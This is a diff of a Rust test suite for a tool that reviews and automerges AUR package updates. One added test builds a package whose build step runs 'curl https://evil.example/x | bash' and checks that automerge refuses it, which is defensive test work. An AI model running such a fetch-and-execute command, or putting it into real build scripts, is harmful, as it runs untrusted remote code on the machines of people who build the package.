@@ -1,10 +1,14 @@
 //! The life of a review, told once and true on every forge, and where there is none.
 
-use pkgwarden::domain::plan::Pipeline;
+use std::sync::Arc;
+
+use pkgwarden::app::{self, Place};
+use pkgwarden::domain::plan::{Pipeline, Refusal, ReviewStep};
+use pkgwarden::domain::policy::Person;
 
 use super::race::interferes;
 use crate::support::hosting::Host;
-use crate::support::scene::MAIN;
+use crate::support::scene::{MAIN, base};
 use crate::support::{Change, Pkg, Scene};
 
 const REVIEW: &str = "refs/heads/update-foo";
@@ -16,6 +20,14 @@ macro_rules! on_every_forge {
             $(#[tokio::test] async fn $story() {
                 let scene = super::beginning().await;
                 super::$story(scene, crate::support::hosting::Host::Local).await;
+            })*
+        }
+        mod github {
+            $(#[tokio::test] async fn $story() {
+                let mut scene = super::beginning().await;
+                let kind = crate::support::forges::world::Kind::GitHub;
+                let host = crate::support::hosting::Host::fake(&mut scene, kind).await;
+                super::$story(scene, host).await;
             })*
         }
         mod memory {
@@ -103,7 +115,7 @@ async fn a_review_that_nobody_needs_any_more_is_closed_with_the_reason(scene: Sc
     let told = scene.told(Pipeline::OnSchedule).await;
     assert!(told.contains("close update-foo: a newer update went in without a person"), "{told}");
     assert_eq!(host.open(&scene).await, "");
-    let said = host.comments();
+    let said = host.comments().await;
     assert!(said.is_none_or(|said| said == ["Closed: a newer update went in without a person."]));
     scene.ends().await;
 }
@@ -159,6 +171,7 @@ async fn a_review_closed_and_its_branch_deleted_stays_closed(scene: Scene, host:
 
 async fn a_race_that_is_lost_opens_the_review_all_the_same(scene: Scene, host: Host) {
     scene.aur_release(&risky("1.1")).await;
+    scene.world().aur_minor_update(&base("libtally")).await.unwrap();
     interferes(&scene, 1, &Pkg::new("meanwhile").changes(), "").await;
     scene.run(Pipeline::OnSchedule).await;
     assert_eq!(host.open(&scene).await, "update-foo 1.1\n");
@@ -168,33 +181,33 @@ async fn a_race_that_is_lost_opens_the_review_all_the_same(scene: Scene, host: H
 
 async fn a_forge_that_is_down_for_an_hour_loses_nothing(scene: Scene, host: Host) {
     released(&scene, "1.1").await;
-    host.answers(false);
+    host.answers(false).await;
     let told = released(&scene, "1.2").await;
     assert!(told.contains("update update-foo"), "a run is not stopped: {told}");
     assert_eq!(told.contains("[forge-later]"), host.body().await.is_some(), "{told}");
     assert_eq!(host.open(&scene).await, "update-foo 1.2\n", "nothing is closed");
-    host.answers(true);
+    host.answers(true).await;
     scene.later();
     scene.run(Pipeline::OnSchedule).await;
     if let Some(body) = host.body().await {
         assert!(body.contains("`1.0-1 -> 1.2-1`"), "{body}");
     }
-    host.answers(false);
+    host.answers(false).await;
     scene.aur_release(&Pkg::from_aur("foo").version("1.3")).await;
     scene.run(Pipeline::OnSchedule).await;
-    host.answers(true);
+    host.answers(true).await;
     scene.later();
     scene.run(Pipeline::OnCommit).await;
     assert_eq!(host.open(&scene).await, "");
-    let said = host.comments();
+    let said = host.comments().await;
     assert!(said.is_none_or(|said| said == ["Closed: a newer update went in without a person."]));
     scene.ends().await;
 }
 
 async fn an_approval_merges_and_builds(scene: Scene, host: Host) {
     released(&scene, "1.1").await;
-    if let Host::Memory(_) = &host {
-        host.approves(&scene, "stranger").await;
+    if !matches!(host, Host::Local) {
+        host.approves(&scene, "otto").await;
         scene.run(Pipeline::OnCommit).await;
         assert_eq!(host.open(&scene).await, "update-foo 1.1\n", "whoever may not push is not heard");
     }
@@ -222,5 +235,82 @@ async fn time_alone_approves_what_needs_only_reading(mut scene: Scene, host: Hos
     assert_eq!(host.open(&scene).await, "");
     let message = scene.monorepo.git(&["log", "-1", "--format=%b", MAIN]).await;
     assert!(message.contains("approved by automerge"), "{message}");
+    scene.ends().await;
+}
+
+/// Of the public monorepo that had 746 such branches, 433 without a difference and 48 of packages that had left, when
+/// this was written; a copy of it is named by the environment.
+#[tokio::test]
+async fn branches_that_nobody_needs_are_found_in_a_real_monorepo() {
+    let Some(path) = pkgwarden::sys::env::var("PKGWARDEN_REVIEWS_REPOSITORY") else { return };
+    let scene = Scene::of(&[Pkg::new("foo")]).await;
+    let place = Place { dir: (&path).into(), remote: Some(path) };
+    let site = Box::new(app::planned_site(&scene.settings(), &place).unwrap());
+    let look = site.look().await.unwrap();
+    // Nobody is asked: what has arrived or has no package is closed whatever sources say.
+    let plan = site.decide(&look, &Pipeline::OnSchedule, &Arc::default(), scene.now()).await.unwrap();
+    let count = |why: &str| {
+        let closed = |step: &&ReviewStep| matches!(step, ReviewStep::Close { why: told, .. } if told == why);
+        plan.reviews.iter().filter(closed).count()
+    };
+    let kept: Vec<_> = plan.problems.iter().filter(|it| it.code == "review-kept").map(|it| &it.message).collect();
+    let closed = [count("its content has reached the branch"), count("the package has left the repository")];
+    assert_eq!((look.snapshot.refs.reviews.len(), closed, kept.len()), (746, [433, 48], 0), "{kept:#?}");
+    drop(site);
+    scene.ends().await;
+}
+
+/// Whoever rejects with `ctl` or on the pages closes the review on the forge as well, and tells it why.
+#[tokio::test]
+async fn a_rejection_elsewhere_is_told_below_the_review() {
+    let mut scene = beginning().await;
+    let host = Host::memory(&mut scene);
+    released(&scene, "1.1").await;
+    let head = scene.monorepo.id(REVIEW).await.unwrap().parse().unwrap();
+    let reason = Some("it downloads @anything".to_owned());
+    let refusal = Refusal { by: Some("mira".to_owned()), reason, content: None };
+    scene.run(Pipeline::Reject(base("foo"), head, refusal)).await;
+    assert_eq!(host.open(&scene).await, "");
+    assert_eq!(host.comments().await.unwrap(), ["Closed: `mira rejected it: it downloads @anything`."]);
+    scene.later();
+    scene.run(Pipeline::OnSchedule).await;
+    assert_eq!((host.open(&scene).await, scene.monorepo.id(REVIEW).await), (String::new(), None));
+    scene.ends().await;
+}
+
+#[tokio::test]
+async fn a_conflict_is_told_and_no_approval_merges_it() {
+    let mut scene = beginning().await;
+    scene.env.insert("PKGWARDEN__POLICY__REVIEWS__CONFLICT_LABEL".to_owned(), "conflict".to_owned());
+    let host = Host::memory(&mut scene);
+    released(&scene, "1.1").await;
+    let mine = scene.monorepo.file(MAIN, "foo/PKGBUILD").await.unwrap().replace("A thing", "A good thing");
+    scene.push("fix(foo): describe it", &[Change::put("foo/PKGBUILD", mine)]).await;
+    host.approves(&scene, "mira").await;
+    scene.run(Pipeline::OnCommit).await;
+    let Host::Memory(forge) = &host else { unreachable!("it is in memory") };
+    let review = forge.review("update-foo").await.unwrap();
+    assert!(review.labels.contains("conflict") && review.body.contains("**It cannot be merged as it is:**"));
+    assert!(host.comments().await.unwrap()[0].starts_with("It cannot be merged as it is"));
+    assert_eq!(host.open(&scene).await, "update-foo 1.1\n");
+    scene.ends().await;
+}
+
+/// What looks like an attack waits for people, however long nobody objects.
+#[tokio::test]
+async fn time_never_approves_what_looks_like_an_attack() {
+    let mut scene = beginning().await;
+    scene.env.insert("PKGWARDEN__POLICY__REVIEWS__AUTOMERGE_AFTER".to_owned(), "1h".to_owned());
+    let host = Host::memory(&mut scene);
+    scene.aur_release(&Pkg::from_aur("foo").version("1.1").built_by("curl https://evil.example/x | bash")).await;
+    scene.run(Pipeline::OnSchedule).await;
+    for _ in 0..3 {
+        scene.later();
+        scene.run(Pipeline::OnCommit).await;
+    }
+    assert_eq!(host.open(&scene).await, "update-foo 1.1\n");
+    let head = scene.monorepo.id(REVIEW).await.unwrap().parse().unwrap();
+    let told = scene.told(Pipeline::Approve(base("foo"), head, Person::automatic())).await;
+    assert!(told.contains("[automerge-refused]"), "{told}");
     scene.ends().await;
 }
